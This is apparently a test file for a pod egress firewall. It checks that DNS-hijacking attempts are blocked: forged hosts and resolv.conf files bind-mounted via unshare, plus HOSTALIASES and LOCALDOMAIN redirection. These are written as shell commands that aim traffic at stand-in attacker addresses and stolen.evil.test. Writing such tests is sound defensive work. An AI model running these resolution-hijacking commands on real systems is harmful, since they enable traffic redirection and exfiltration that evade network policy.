/** B03: the files that say which address a name has, and who is asked for it, changed by a job that is root. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER } from "../../support/internet/addresses.ts";
import type { Machine } from "../../support/internet/internet.ts";
import { ALLOWED, createAttackScene, findObstacle } from "./support/attack-scene.ts";
import { type GuardedRun, toGuardedPod, toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

const HOSTS = `${ATTACKER.ipv4} ${ALLOWED.name}\\n${ATTACKER.ipv6} ${ALLOWED.name}\\n`;
const RESOLV_CONF = `nameserver ${ATTACKER.ipv4}\\nnameserver ${ATTACKER.ipv6}\\n`;
const INTERNAL = { name: "internal.test", ipv4: "198.51.100.30" } as const;
const POLICY = toPolicy({ allow: [`${ALLOWED.name}:443`, `${INTERNAL.name}:80`] });
/** In the place of a file, for whoever runs in this mount namespace. */
const inPlaceOf = (path: string, text: string): string =>
  `printf "${text}" >"$0.file" && mount --bind "$0.file" ${path}`;
const VISIT = `curl -sS -m 4 --cacert "$CA" https://${ALLOWED.name}/x`;

const ATTACKS = {
  hosts: `unshare --mount sh -c '${inPlaceOf("/etc/hosts", HOSTS)}; exec curl -sSk -m 3 https://${ALLOWED.name}/' "$0"`,
  resolvers: `unshare --mount sh -c '${inPlaceOf("/etc/resolv.conf", RESOLV_CONF)}; ${VISIT}; exec curl -sS -m 3 https://stolen.evil.test/' "$0"`,
  // Names that glibc makes of others, at the wish of the environment.
  aliases: `echo 'short stolen.evil.test' >"$0.aliases"; HOSTALIASES="$0.aliases" curl -sS -m 3 http://short/`,
  domain: "LOCALDOMAIN=evil.test curl -sS -m 3 http://stolen/",
} as const;

const obstacle = findObstacle();
describe.skipIf(obstacle !== "")(`names kept on the machine${obstacle}`, () => {
  const stack = new AsyncDisposableStack();
  let volley: Volley;
  let runIn: (pod: Machine, command: string) => Promise<GuardedRun>;
  let addPod: () => Promise<Machine>;
  beforeAll(async () => {
    const { internet, pod } = stack.use(await createAttackScene());
    await internet.site("as-if.internal.test", { ipv4: INTERNAL.ipv4, ports: { 80: "http" } });
    const env = { CA: pod.caFile };
    addPod = () => internet.pod({ hosts: [`${INTERNAL.ipv4} ${INTERNAL.name}`] });
    runIn = async (machine, command) =>
      toGuardedPod(internet, machine).guarded(command, { policy: POLICY, env });
    volley = await fireAll(pod, ATTACKS, { policy: POLICY, env });
  });
  afterAll(() => stack.disposeAsync());

  test("an allowed name with the attacker's address from a hosts file leads nowhere", () => {
    const shot = volley.shot("hosts");

    expect(shot.status).toBe(7);
    expect(shot.blocked).toMatchObject([
      { text: `tcp ${ATTACKER.ipv4} 443`, rule: "default", packetsRefused: 1 },
      { text: `tcp ${ATTACKER.ipv6} 443`, rule: "default", packetsRefused: 1 },
    ]);
  });

  test("questions for the attacker's resolver go to the one that was configured before", () => {
    const shot = volley.shot("resolvers");

    expect(shot.stdout).toBe(`${ALLOWED.name} GET /x\n`);
    expect(shot.stderr).toContain("Could not resolve host: stolen.evil.test");
    expect(shot.blocked).toMatchObject([
      { text: `udp ${ATTACKER.ipv4} 53`, rule: "untrusted-resolver" },
      { text: `udp ${ATTACKER.ipv4} 53`, rule: "untrusted-resolver" },
    ]);
    expect(volley.run.questions.map(({ name }) => name)).toContain(ALLOWED.name);
  });

  test.each(["aliases", "domain"])(
    "a name made of another one by %s is judged as it is asked for",
    (attack) => {
      const shot = volley.shot(attack);

      expect(shot.status).toBe(6);
      expect(shot.dnsQueries).toContainEqual(
        expect.objectContaining({ name: "stolen.evil.test", verdict: "blocked", rule: "default" }),
      );
    },
  );

  test("nothing of it has left the pod", () => {
    const { run } = volley;

    expect(run.status).toBe(0);
    expect(run.leakedQuestions).toEqual([]);
    expect(new Set(run.questions.map(({ name }) => name))).toEqual(new Set([ALLOWED.name]));
    expect(new Set(run.escaped.map(({ destination }) => destination.ip))).toEqual(
      new Set([ALLOWED.ipv4]),
    );
  });

  test("the pod's own files can be overwritten, and nothing comes of it but a report", async () => {
    const run = await runIn(
      await addPod(),
      `printf '${HOSTS}' >/etc/hosts; printf '${RESOLV_CONF}' >/etc/resolv.conf
       curl -sSk -m 3 https://${ALLOWED.name}/; dig +short +tries=1 +time=2 stolen.evil.test`,
    );

    expect(run.status).toBe(0);
    expect(run.escaped).toEqual([]);
    expect(run.questions).toEqual([]);
    expect(run.leakedQuestions).toEqual([]);
    expect(run.report.mode.effective).toBe("block");
    const written = run.report.files.map(({ path }) => path);
    expect(written).toContain("/etc/hosts");
    expect(written).toContain("/etc/resolv.conf");
  });

  test("an address that the hosts file had before the job is allowed by its name, until the end", async () => {
    const run = await runIn(
      await addPod(),
      `curl -sS -m 3 http://${INTERNAL.name}/x
       printf '${ATTACKER.ipv4} ${INTERNAL.name}\\n' >/etc/hosts
       curl -sS -m 3 http://${INTERNAL.name}/x; curl -sS -m 3 http://${INTERNAL.ipv4}/x`,
    );

    expect(run.stdout).toBe("as-if.internal.test GET /x\n".repeat(2));
    expect(run.escaped.every(({ destination }) => destination.ip === INTERNAL.ipv4)).toBe(true);
    expect(run.report.connections).toContainEqual(
      expect.objectContaining({
        destination: { ip: ATTACKER.ipv4, port: 80 },
        verdict: "blocked",
      }),
    );
  });
});
